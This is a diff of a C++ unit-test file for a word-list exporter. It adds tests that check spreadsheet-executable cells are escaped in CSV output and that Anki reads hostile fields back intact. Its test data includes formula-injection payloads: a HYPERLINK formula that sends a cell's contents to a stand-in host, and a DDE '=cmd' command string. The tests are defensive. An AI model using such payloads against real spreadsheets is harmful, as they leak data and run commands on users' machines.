@@ -5,6 +5,7 @@
 
 #include <gtest/gtest.h>
 
+#include <array>
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
@@ -29,13 +30,14 @@ std::string FromHex(const std::string& hex) {
 
 // The rows Python's csv module reads from the file (opened as Excel would
 // be told: UTF-8 with its byte-order mark), each field as UTF-8.
-std::vector<std::vector<std::string>> ReadWithPython(const std::string& path) {
-  std::string command =
-      "python3 -c \"import csv,sys\n"
-      "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
-      "    for row in csv.reader(f):\n"
-      "        print(' '.join(x.encode('utf-8').hex() or '-' for x in row))\" '" +
-      path + "'";
+// With a script, the rows that script prints in the same shape.
+std::vector<std::vector<std::string>> ReadWithPython(const std::string& path, const std::string& script = {}) {
+  std::string command = script.empty() ? "python3 -c \"import csv,sys\n"
+                                         "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                                         "    for row in csv.reader(f):\n"
+                                         "        print(' '.join(x.encode('utf-8').hex() or '-' for x in row))\" '" +
+                                             path + "'"
+                                       : "/usr/bin/python3 '" + script + "' '" + path + "'";
   struct Closer {
     void operator()(FILE* f) const { pclose(f); }
   };
@@ -78,7 +80,6 @@ TEST(WordExportTest, HostileRowsRoundTripThroughPythonsCsvReader) {
       {"tab\there", "制表\t符"},
       {"lines", "n. 丈夫；先生\nv. 结婚\r\nadj. 第三行\r"},
       {"gbk", "堃喆镕〇﹏"},
-      {"=1+2", "@SUM(A1) 'quoted'"},
       {"", ""},
       {"\"", "\"\""},
   };
@@ -117,16 +118,108 @@ TEST(WordExportTest, AHundredThousandRowsComeBackWhole) {
   }
 }
 
-TEST(WordExportTest, AnkiNotesStayOnOneLineWithTheBankAsTag) {
-  std::vector<ExportRow> rows = {
-      {"husband", "", Gbk("n. 丈夫；先生\r\nv. 节约 <少用> & 省"), Gbk("会"), "3"},
-      {"tab\tword", "", Gbk("a\tb \"c\""), "", ""},
+// What a spreadsheet is handed for each cell: a text that it would run as a
+// formula starts with "'", numbers of the known and hot columns stay numbers.
+TEST(WordExportTest, CellsASpreadsheetWouldRunAreGuarded) {
+  struct Case {
+    const char* cell;        // written in the word, translation or hot column
+    const char* asText;      // what the reader gets for a text column
+    const char* asHotValue;  // what the reader gets for the hot column
+  } const cases[] = {
+      {"=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")", "'=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")",
+       "'=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")"},
+      {"+86 10", "'+86 10", "'+86 10"},
+      {"-5", "'-5", "-5"},
+      {"-1+2", "'-1+2", "'-1+2"},
+      {"@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)"},
+      {"\t=1", "'\t=1", "'\t=1"},
+      {"\r=1", "'\r=1", "'\r=1"},
+      {"'tis", "''tis", "''tis"},
+      {"12", "12", "12"},
+      {"a=b", "a=b", "a=b"},
+      {" =1", " =1", " =1"},
+      {"", "", ""},
   };
-  EXPECT_EQ(
-      "#separator:tab\n#html:true\n#tags column:4\n"
-      "husband\t\tn. 丈夫；先生<br>v. 节约 &lt;少用&gt; &amp; 省\tmy_bank\n"
-      "tab&#9;word\t\ta&#9;b &quot;c&quot;\tmy_bank\n",
-      FormatExport(rows, ExportFormat::AnkiTsv, "my bank"));
+  testing::TempDir dir;
+  std::vector<ExportRow> rows;
+  for (const Case& c : cases) rows.push_back({Gbk(c.cell), "", Gbk(c.cell), Gbk("会"), Gbk(c.cell)});
+  std::string path = dir.File("guard.csv");
+  ASSERT_TRUE(WriteExport(path, rows, ExportFormat::Csv, "b").ok());
+  auto read = ReadWithPython(path);
+  ASSERT_EQ(std::size(cases) + 1, read.size());
+  for (size_t i = 0; i < std::size(cases); ++i) {
+    SCOPED_TRACE(cases[i].cell);
+    EXPECT_EQ((std::vector<std::string>{cases[i].asText, "", cases[i].asText, "会", cases[i].asHotValue}), read[i + 1]);
+  }
+}
+
+// The flash-card file read the way Anki reads it: header lines first ("#key:
+// value"), then lines starting with "#" are comments, fields split as RFC
+// 4180 with a tab (Python's csv module), HTML decoded, tags split at every
+// Unicode space. Prints the deck, then per note its fields and tag count.
+constexpr char kAnkiTextReader[] = R"PY(
+import csv, html, io, re, sys
+data = open(sys.argv[1], encoding='utf-8', newline='').read()
+lines = data.split('\n')
+headers = {}
+while lines and lines[0].startswith('#') and ':' in lines[0]:
+    key, value = lines.pop(0)[1:].split(':', 1)
+    headers[key] = value
+assert headers['separator'] == 'tab' and headers['html'] == 'true' and headers['notetype'] == 'Basic'
+columns = headers['columns'].split('\t')
+tags_at = int(headers['tags column']) - 1
+assert columns[:2] == ['Front', 'Back'] and columns[tags_at] == 'Tags'
+body = '\n'.join(l for l in lines if not l.startswith('#'))
+print(headers['deck'].encode().hex() or '-')
+for row in csv.reader(io.StringIO(body), delimiter='\t'):
+    assert len(row) == len(columns), row
+    fields = [html.unescape(re.sub('<br>', '\n', f)) for f in row]
+    tags = row[tags_at].split()
+    print(' '.join(x.encode().hex() or '-' for x in
+          [fields[0], fields[1], fields[columns.index('音标')], tags[0] if tags else '', str(len(tags))]))
+)PY";
+
+std::vector<std::vector<std::string>> ReadAsAnki(const std::string& script, const std::string& path) {
+  std::ofstream(script) << kAnkiTextReader;
+  return ReadWithPython(path, script);
+}
+
+TEST(WordExportTest, AnkiReadsEveryHostileFieldAndOneTagBack) {
+  const std::string longTranslation(10000, 'x');
+  const std::vector<std::array<std::string, 3>> hostile = {
+      // word, phonetic, translation (UTF-8)
+      {"#hash", "", "#不是注释"},
+      {"\"quoted", "\"", "\"开头的引号\"\t和制表"},
+      {"<b>bold</b>", "/ˈbəʊld/", "粗体 & <i>斜</i>"},
+      {"=cmd|' /C calc'!A0", "", "=HYPERLINK(\"http://x\",\"点我\")"},
+      {"emoji😀", "", "笑脸😀；堃喆镕〇"},
+      {"lines", "", "n. 丈夫\nv. 结婚\n第三行"},
+      {"long", "", longTranslation},
+      {"", "", ""},
+  };
+  const std::vector<std::pair<std::string, std::string>> banks = {
+      // bank name (UTF-8), the one tag Anki should read
+      {"my bank", "my_bank"},
+      {"\"quoted bank", "_quoted_bank"},
+      {"全角\u3000空格", "全角_空格"},
+      {"#hash\tbank", "#hash_bank"},
+      {"nbsp\u00a0thin\u2009ideo", "nbsp_thin_ideo"},
+  };
+  std::vector<ExportRow> rows;
+  for (const auto& [word, phonetic, trans] : hostile) rows.push_back({Gbk(word), Gbk(phonetic), Gbk(trans), "", ""});
+  testing::TempDir dir;
+  for (const auto& [bank, tag] : banks) {
+    SCOPED_TRACE(bank);
+    std::string path = dir.File("cards.txt");
+    ASSERT_TRUE(WriteExport(path, rows, ExportFormat::AnkiTsv, Gbk(bank)).ok());
+    auto read = ReadAsAnki(dir.File("anki_reader.py"), path);
+    ASSERT_EQ(hostile.size() + 1, read.size());
+    EXPECT_EQ(std::vector<std::string>{bank == "#hash\tbank" ? "#hash bank" : bank}, read[0]);
+    for (size_t i = 0; i < hostile.size(); ++i) {
+      SCOPED_TRACE(i);
+      EXPECT_EQ((std::vector<std::string>{hostile[i][0], hostile[i][2], hostile[i][1], tag, "1"}), read[i + 1]);
+    }
+  }
   EXPECT_EQ(ExportFormat::AnkiTsv, ExportFormatForName("/x/cards.TXT"));
   EXPECT_EQ(ExportFormat::AnkiTsv, ExportFormatForName("cards.tsv"));
   EXPECT_EQ(ExportFormat::Csv, ExportFormatForName("cards.csv"));
